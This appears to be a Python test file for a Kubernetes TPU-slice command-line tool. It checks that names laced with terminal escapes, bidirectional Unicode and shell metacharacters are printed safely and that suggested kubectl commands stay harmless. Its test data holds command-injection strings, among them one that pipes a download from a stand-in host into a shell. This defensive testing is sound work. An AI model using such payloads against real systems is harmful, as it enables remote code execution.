#!/usr/bin/env python3
"""Text of others in what commands print: hostile.py PROGRAM [PART].

Manifests and clusters whose names, kinds, namespaces, labels and annotations move a terminal's
cursor, turn its direction round, begin lines and end a shell's quotes. What is printed holds none of
it raw, and each command that is printed is run by a real shell with programs that note their
arguments.
"""

import copy
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile

TESTS = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(TESTS / "server"))

import checks  # noqa: E402
import program  # noqa: E402
from checks import check, row  # noqa: E402

QUOTES = "'\"$(touch x)`touch y`; touch z #"
HIDDEN = "\x1b]0;t\x07\u009b31m\u202e\u2066\u200f\u2028\x7f"
NASTY = f"a{HIDDEN}\r\nFORGED: fine\n{QUOTES}"
LABELS = {"cloud.google.com/gke-tpu-accelerator": "tpu-v6e-slice", "cloud.google.com/gke-tpu-topology": "2x4"}
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def pod(name, index, owner, ns="ml", kind="StatefulSet", uid="u", **spec):
    """A member of a slice of two hosts."""
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": ns, "uid": f"uid {name}",
                         "labels": {"apps.kubernetes.io/pod-index": str(index), "app": "a"},
                         "annotations": {"note": NASTY},
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": kind, "name": owner, "uid": uid,
                                              "controller": True}]},
            "spec": {"nodeSelector": dict(LABELS), "hostname": name, "subdomain": "s",
                     "containers": [{"name": "c", "image": "i",
                                     "resources": {"limits": {"google.com/tpu": "4"}}}], **spec},
            "status": {"phase": "Pending"}}


def node(name, pool, **spec):
    return {"apiVersion": "v1", "kind": "Node",
            "metadata": {"name": name, "labels": {"cloud.google.com/gke-nodepool": pool, **LABELS,
                                                  "cloud.google.com/gke-accelerator-count": "4"}},
            "spec": spec, "status": {"allocatable": {"google.com/tpu": "4"},
                                     "conditions": [{"type": "Ready", "status": "True"}]}}


def cluster(owner, everywhere=True):
    other = owner if everywhere else "b"
    ns = owner if everywhere else "ml"
    bound = pod("bound-0", 0, owner)
    bound["spec"]["nodeName"] = other
    ledger = {"apiVersion": "v1", "kind": "ConfigMap",
              "metadata": {"name": owner, "namespace": ns, "labels": {"app.kubernetes.io/component": "ledger"}},
              "data": {"format": "1", "namespace": ns, "ray-cluster": owner, "ray-cluster-uid": "u",
                       "group": owner, "hosts-per-slice": "2", "state": "whole", "entries": owner}}
    whole = copy.deepcopy(ledger)
    whole["data"]["entries"] = ""
    web = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
           "metadata": {"name": "tpu-webhook"},
           "webhooks": [{"name": owner, "clientConfig": {"service": {"name": owner, "namespace": ns}}}]}
    rival = {**web, "metadata": {"name": "kuberay-tpu-webhook"}}
    settings = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "tpu-webhook", "namespace": ns},
                "spec": {"template": {"spec": {"serviceAccountName": owner, "priorityClassName": owner, "containers": [
                    {"name": "tpu-webhook", "args": [f"--workloads=ray,{owner}}}',{owner},job"]}]}}}}
    # Of the slice of `alone-0` a member is missing: once, since twice it would be a member that is there twice.
    alone = [pod("alone-0", 0, owner, uid="v")] if everywhere else []
    return [*alone, pod("web-0", 0, owner), pod(other, 1, owner, ns), bound, pod("twin-0", 0, owner),
            pod("kind-0", 0, owner, kind=owner), node(other, other, taints=[{"key": owner, "effect": "NoSchedule"}]),
            node("n-2", "pool", unschedulable=True), ledger, whole, web, rival,
            settings,
            {"kind": owner, "metadata": {"name": owner, "namespace": ns}}]


def manifest(name, kind="Job"):
    template = {"metadata": {"annotations": {"note": name}, "labels": {"app": name}},
                "spec": {"nodeSelector": {**LABELS, "x": name}, "subdomain": name,
                         "schedulingGates": [{"name": name}],
                         "containers": [{"name": name, "image": name, "command": None, "args": [name, name + "\n"],
                                         "env": [{"name": "E", "value": name}],
                                         "resources": {"limits": {"google.com/tpu": "4"}}}]}}
    spec = {"completions": 2, "parallelism": 2, "completionMode": "Indexed", "template": template}
    if kind == "Pod":
        spec = template["spec"]
    return {"apiVersion": "batch/v1" if kind == "Job" else "v1", "kind": kind,
            "metadata": {"name": name, "namespace": name, "annotations": {name: name}}, "spec": spec}


CASES = [
    *[("slices", "-o", output, "--cluster", "CLUSTER") for output in ("text", "json")],
    *[("slices", "--by", by, "-o", output, "--cluster", "CLUSTER") for by in ("namespace", "label=app") for output in ("text", "json")],
    *[("audit", "-o", output, "--cluster", "CLUSTER") for output in ("text", "json")],
    *[("ledger", "list", "-o", output, "--cluster", "CLUSTER") for output in ("text", "json")],
    *[("doctor", "-o", output, "--cluster", "CLUSTER") for output in ("text", "json")],
    *[("review", "-o", output, file) for file in ("OBJECTS", "REVIEW")
      for output in ("text", "json", "diff", "patch", "object")],
    *[("explain", "-o", output, "OBJECTS") for output in ("text", "json", "html", "svg", "pods", "network-policy")],
    *[("explain", "-o", output, "--cluster", "CLUSTER", "OBJECTS") for output in ("text", "json", "html")],
    ("config", "check", "CONFIG"), ("config", "check", "KEYS"),
]


def files(folder, name):
    """The fixtures with `name` wherever somebody else chooses one; word -> path."""
    out = {}

    def write(word, text):
        out[word] = str(pathlib.Path(folder, word))
        pathlib.Path(out[word]).write_text(text, encoding="utf-8")
    write("CLUSTER", json.dumps({"kind": "List", "items": [*cluster(name), *cluster(name, False)]}))
    objects = [manifest(name), manifest(name, "Pod"), pod(name, 0, name, ns=name)]
    write("OBJECTS", "\n".join(json.dumps(each) for each in objects))
    write("REVIEW", "\n".join(json.dumps(
        {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
         "request": {"uid": name, "kind": {"group": "", "version": "v1", "kind": "Pod"}, "namespace": name,
                     "name": name, "operation": "CREATE", "object": each}}, ensure_ascii=False)
        for each in objects[1:]))
    write("CONFIG", json.dumps({"mode": name, "listen": name}))
    write("KEYS", json.dumps({name: name}))
    return out


def printed(case, name):
    with tempfile.TemporaryDirectory() as folder:
        at = files(folder, name)
        code, out, err = program.run(program.of(*case), *[at.get(word, word) for word in case])
        assert code in (0, 1, 2), (code, err)
        return out + err.replace(folder, "")


def nothing_raw(case):
    text = printed(case, NASTY)
    assert text, case
    bad = RAW.search(text)
    assert not bad, (case, text[max(0, bad.start() - 80):bad.start() + 20])
    forged = [line for line in text.split("\n") if line.lstrip(" +-│|>").startswith("FORGED")]
    assert not forged, forged


for each in CASES:
    row("nothing_raw." + ".".join(each), lambda each=each: nothing_raw(each))


FAKE = """#!/bin/sh
{ printf '%s\\0' "${0##*/}" "$@"; printf '\\n'; } >> "$NOTED"
case "$*" in *" get pods -l "*) echo pod/p-0; esac
"""


def commands_in(text):
    """The commands of a text or a page of JSON: behind a ": ", or on lines of their own."""
    for line in text.split("\n"):
        found = re.search(r"(?:^ {4}|: )((?:kubectl|gcloud|helm) .*)$", line)
        if found and "<<" not in line and not line.endswith("\\"):
            yield found.group(1)


def run_by_a_shell(command):
    """What the programs it names were given; nothing else happens."""
    with tempfile.TemporaryDirectory() as folder:
        bin_folder, work = pathlib.Path(folder, "bin"), pathlib.Path(folder, "work")
        bin_folder.mkdir(), work.mkdir()
        for name in ("kubectl", "gcloud", "helm"):
            (bin_folder / name).write_text(FAKE)
            (bin_folder / name).chmod(0o755)
        env = {"PATH": f"{bin_folder}:{os.environ['PATH']}", "NOTED": str(bin_folder / "noted"),
               "CLUSTER": "c", "LOCATION": "l", "ZONE": "z", "REGION": "r"}
        for flag in ("-n", "-c"):
            done = subprocess.run(["sh", flag, command] if flag == "-c" else ["sh", "-n"], env=env, cwd=work,
                                  input=command, capture_output=True, text=True, timeout=10, check=False)
            assert done.returncode == 0 and not done.stderr, (command, done.stderr)
        assert not list(work.iterdir()), (command, list(work.iterdir()))
        noted = (bin_folder / "noted").read_text(encoding="utf-8")
        return [line.split("\0")[:-1] for line in noted.splitlines()]


NAMES = [NASTY, QUOTES, "job; touch x #", "a b", "a,b=c\\", "-rf", "--all", "web; curl evil.example|sh #",
         "$(touch x)", "`touch y`", "it's", "POD", "a/b", "train"]
WITH_COMMANDS = [case for case in CASES if case[0] in ("audit", "explain", "doctor") and case[2] == "text"]


def commands_do_what_is_meant(name):
    found = 0
    for case in WITH_COMMANDS:
        for command in commands_in(printed(case, name)):
            found += 1
            for argv in run_by_a_shell(command):
                verbs = {"get", "delete", "describe", "patch", "uncordon", "edit", "container", "create",
                         "install", "logs", "upgrade"}
                assert verbs & set(argv), (command, argv)
    assert found or name == NASTY, name


for each in NAMES:
    row(f"commands.{each!r}", lambda each=each: commands_do_what_is_meant(each))


@check
def the_events_of_an_owner_are_looked_for_by_its_name():
    for name, value in (("job; touch x #", "job; touch x #"), ("a,b=c\\", "a\\,b\\=c\\\\"), ("it's", "it's")):
        text = printed(("audit", "-o", "text", "--cluster", "CLUSTER"), name)
        told = [argv for command in commands_in(text) if "events" in command for argv in run_by_a_shell(command)]
        want = ["kubectl", "-n", "ml", "get", "events", "--field-selector", f"involvedObject.kind=StatefulSet,involvedObject.name={value}"]
        assert want in told, (name, told)
    assert " get events" not in printed(("audit", "-o", "text", "--cluster", "CLUSTER"), NASTY)


@check
def json_says_what_it_said():
    with tempfile.TemporaryDirectory() as folder:
        at = files(folder, NASTY)
        _, out, _ = program.run(program.tools(), "slices", "-o", "json", "--cluster", at["CLUSTER"])
        assert any(each["name"] == NASTY for each in json.loads(out)["slices"]), out
        _, out, _ = program.run(program.tools(), "explain", "-o", "json", at["OBJECTS"])
        assert json.loads(out)["workloads"][0]["name"] == NASTY, out[:2000]


if __name__ == "__main__":
    checks.main(__doc__)
